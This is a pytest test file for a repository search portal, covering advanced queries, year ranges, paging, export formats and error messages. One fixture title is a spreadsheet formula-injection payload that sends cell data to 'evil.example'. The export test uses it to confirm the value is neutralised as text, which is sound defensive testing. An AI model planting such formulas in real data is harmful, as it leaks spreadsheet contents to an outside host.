"""The search page at the level of BASE: advanced form, year range, numbered pages, page sizes, export,
help on an empty result, merged bilingual subjects, and clear messages for every bad argument."""

from __future__ import annotations

import csv
import io
import re

import pytest

from hub.pipeline.index import index_records
from hub.web.portal.search_form import compose_advanced, page_numbers
from tests.search.conftest import add_member, add_record


@pytest.fixture
def site(hub, app):
    """Two members and 25 records: bilingual subjects, one harvested formula title, years 2000-2024."""
    _, pku = add_member(hub, "pku", "Peking University", "北京大学")
    _, fdu = add_member(hub, "fdu", "Fudan University", "复旦大学")
    ids = {
        "zh": add_record(hub, pku, 1, title="机器学习在医学影像中的应用", title_lang="zho", abstract="本文讨论传感器。",
                         year=2016, subjects=("计算机科学",), languages=("zho",), creators=("王力",)),
        "en": add_record(hub, fdu, 2, title="Deep learning for sensor networks", abstract="Graph sensors.",
                         year=2012, subjects=("Computer science",), rtype="doctoral thesis",
                         creators=("Smith, Jane",), doi="10.1234/deep"),
        "formula": add_record(hub, fdu, 3, title='=HYPERLINK("http://evil.example/?"&A1)', year=2020),
    }
    for n in range(4, 26):
        ids[f"s{n}"] = add_record(hub, pku, n, title=f"统计学习方法研究 {n}", title_lang="zho", year=2000 + n - 4,
                                  languages=("zho",))
    index_records(hub, ids.values())
    return ids


def text(resp) -> str:
    return resp.get_data(as_text=True)


def hit_ids(page: str) -> list[int]:
    return [int(i) for i in re.findall(r'<h3><a href="/records/(\d+)"', page)]


def test_compose_advanced_rows_left_to_right():
    assert compose_advanced(["title", "author"], ["deep learning", "smith"], ["AND", "AND"]) == \
        '(title:"deep" title:"learning") author:"smith"'
    assert compose_advanced(["title", "author", "any"], ["a", "b", "c"], ["AND", "AND", "OR"]) == \
        '(title:"a" author:"b") OR "c"'  # rows group left to right
    assert compose_advanced(["any", "subject", "any"], ['"neural net"', "物理", "-x"], ["AND", "OR", "NOT"]) == \
        '("neural net" OR subject:"物理") NOT "x"'
    assert compose_advanced(["title", "title"], ["", "  "], ["AND", "OR"]) == ""
    assert compose_advanced(["subject"], ["Computer  Science"], ["AND"]) == 'subject:"Computer Science"'  # one term
    assert compose_advanced(["subject"], ["graphene oxide"], ["AND"]) == '(subject:"graphene" subject:"oxide")'
    # an unclosed quote and brackets are dropped, operators inside a row are words of a phrase only
    assert compose_advanced(["title"], ['a "b OR (c'], ["AND"]) == '(title:"a" title:"b" title:"c")'
    assert compose_advanced(["title"], ['a "b OR (c"'], ["AND"]) == '(title:"a" title:"b OR c")'
    assert page_numbers(1, 1) == [1]
    assert page_numbers(6, 20) == [1, None, 4, 5, 6, 7, 8, None, 20]
    assert page_numbers(2, 4) == [1, 2, 3, 4]


def test_advanced_form_fields_boolean_type_language_and_full_text(client, site):
    page = text(client.get("/search?af=title&at=learning&ao=AND&af=author&at=smith&ao=AND&lang=en"))
    assert hit_ids(page) == [site["en"]]
    assert 'id="advanced" open' in page and 'value="smith"' in page  # the form keeps its rows
    assert hit_ids(text(client.get("/search?af=abstract&at=传感器&ao=AND&af=any&at=sensor&ao=OR"))) \
        and set(hit_ids(text(client.get("/search?af=abstract&at=传感器&ao=AND&af=any&at=sensor&ao=OR")))) == \
        {site["zh"], site["en"]}
    assert hit_ids(text(client.get("/search?af=any&at=sensor&ao=AND&af=abstract&at=传感器&ao=OR"
                                   "&af=title&at=networks&ao=NOT"))) == [site["zh"]]
    assert hit_ids(text(client.get("/search?af=identifier&at=10.1234/deep&ao=AND"))) == [site["en"]]
    assert hit_ids(text(client.get("/search?q=learning&type=doctoral+thesis&language=&fulltext="))) == [site["en"]]
    assert hit_ids(text(client.get("/search?q=sensor+OR+传感器&language=zho"))) == [site["zh"]]
    assert hit_ids(text(client.get("/search?q=learning&fulltext=true"))) == []


def test_year_range_replaces_year_links(client, site):
    page = text(client.get("/search?from=2016&to=2017&lang=en"))
    assert set(hit_ids(page)) == {site["zh"], site["s20"], site["s21"]}
    assert 'id="year-from"' in page and 'value="2016"' in page and 'id="chip-years"' in page
    assert 'data-facet="year"' not in page  # no list of year links any more
    assert set(hit_ids(text(client.get("/search?from=2020")))) == {site["s24"], site["s25"], site["formula"]}
    assert set(hit_ids(text(client.get("/search?to=2001")))) == {site["s4"], site["s5"]}
    # a year link (browse by year) is a filter until a range replaces it
    linked = text(client.get("/search?year=2016&lang=en"))
    assert set(hit_ids(linked)) == {site["zh"], site["s20"]} and 'class="chip" href="/search"' in linked
    ranged = text(client.get("/search?year=2016&from=2001&to=2001&lang=en"))
    assert hit_ids(ranged) == [site["s5"]] and ranged.count('class="chip"') == 1


@pytest.mark.parametrize(("query", "message"), [
    ('q="unclosed', "quote"),
    ("from=abc", "four digits"),
    ("from=2020&to=2010", "starts after it ends"),
    ("page=1000000000", "10,000"),
    ("page=abc", "whole number"),
    ("page=0", "1"),
    ("size=1000000", "choose 10, 20, 50, 100"),
    ("size=7", "choose 10, 20, 50, 100"),
    ("size=-5", "whole number"),
    ("af=colour&at=red", "Unknown search field"),
    ("af=title&at=x&ao=AND&af=title&at=y&ao=XOR", "Unknown operator"),
    ("af=title&at=x&ao=NOT", "NOT needs a row before it"),
])
def test_bad_arguments_give_a_clear_message_never_a_500(client, site, query, message):
    resp = client.get(f"/search?{query}&lang=en")
    error = re.search(r'<p id="search-error">([^<]+)</p>', text(resp))
    assert resp.status_code == 400 and error and message.lower() in error.group(1).lower()


def test_numbered_pages_and_page_size_choice(client, site):
    first = text(client.get("/search?size=10&sort=oldest&lang=en"))
    assert len(hit_ids(first)) == 10
    assert 'aria-current="page" class="current">1<' in first and 'href="/search?size=10&amp;sort=oldest&amp;page=3"' in first
    third = text(client.get("/search?size=10&sort=oldest&page=3"))
    assert len(hit_ids(third)) == 5 and not set(hit_ids(third)) & set(hit_ids(first))
    assert len(hit_ids(text(client.get("/search?size=50")))) == 25
    assert '<strong aria-current="true">20</strong>' in text(client.get("/search"))


def test_export_ris_bibtex_and_csv_of_the_result_set(client, site, hub):
    ris = client.get("/search/export.ris?q=sensor+OR+传感器")
    assert ris.status_code == 200 and ris.headers["Content-Type"].startswith("application/x-research-info-systems")
    assert "attachment" in ris.headers["Content-Disposition"]
    body = text(ris)
    assert body.count("TY  - ") == 2 and "DO  - 10.1234/deep" in body
    bib = text(client.get("/search/export.bib?q=learning&type=doctoral+thesis"))
    assert bib.count("@") == 1 and bib.startswith(f"@phdthesis{{chair{site['en']},")
    rows = list(csv.reader(io.StringIO(text(client.get("/search/export.csv?q=HYPERLINK")).lstrip("\ufeff"))))
    assert rows[0][:3] == ["id", "url", "title"] and len(rows) == 2
    assert rows[1][2].startswith("'=HYPERLINK")  # a harvested formula stays text in a spreadsheet
    assert client.get("/search/export.doc").status_code == 404
    assert client.get("/search/export.ris?from=abc").status_code == 400


def test_export_is_bounded_by_the_setting(hub, tmp_path, site):
    from hub.app import create_app
    from hub.context import Hub

    small = Hub.create(overrides={**{k: hub.settings[k] for k in ("DATABASE_URL", "STORAGE_URL", "SEARCH_URL",
                                                                   "SECRET_KEY")}, "SEARCH_EXPORT_MAX": 7},
                       instance_path=tmp_path / "instance")
    resp = create_app(hub=small).test_client().get("/search/export.csv?sort=oldest")
    rows = list(csv.reader(io.StringIO(text(resp).lstrip("\ufeff"))))
    assert resp.headers["X-Export-Count"] == "7" and len(rows) == 8
    assert [r[0] for r in rows[1:3]] == [str(site["s4"]), str(site["s5"])]


def test_empty_result_offers_syntax_spelling_and_browse_help(client, site):
    page = text(client.get("/search?q=qwertyuiop&type=book&lang=en"))
    assert 'id="no-results"' in page and 'id="drop-filters"' in page
    assert "Check the spelling" in page and 'href="/browse/subject"' in page and "<code>year:2016</code>" in page
    assert 'id="export"' not in page


def test_subjects_in_both_languages_are_one_facet_labelled_in_the_visitors_language(client, site):
    en = text(client.get("/search?lang=en"))
    assert re.search(r'data-facet="subject">Computer Science</a> <span class="count">2</span>', en)
    zh = text(client.get("/search?lang=zh"))
    assert re.search(r'data-facet="subject">计算机科学</a> <span class="count">2</span>', zh)
    assert "Computer science</a>" not in en
    assert set(hit_ids(text(client.get("/search?subject=Computer+science")))) == {site["zh"], site["en"]}


def test_filters_collapse_on_a_phone_without_script(client, site):
    page = text(client.get("/search?q=learning"))
    assert '<details class="filters" open data-collapse-narrow>' in page
    assert '<script src="/static/js/portal.js" defer></script>' in page


def test_an_empty_result_suggests_vocabulary_subjects_close_to_the_query(client, site):
    page = text(client.get("/search?q=Computer+Sciense&lang=en"))
    suggested = re.search(r'<li id="suggestions">Did you mean: <a href="([^"]+)">Computer Science</a></li>', page)
    assert suggested
    found = text(client.get(suggested.group(1).replace("&amp;", "&")))
    assert set(hit_ids(found)) == {site["zh"], site["en"]}  # the concept under both its names
    assert 'id="suggestions"' not in text(client.get("/search?q=qwertyuiop"))
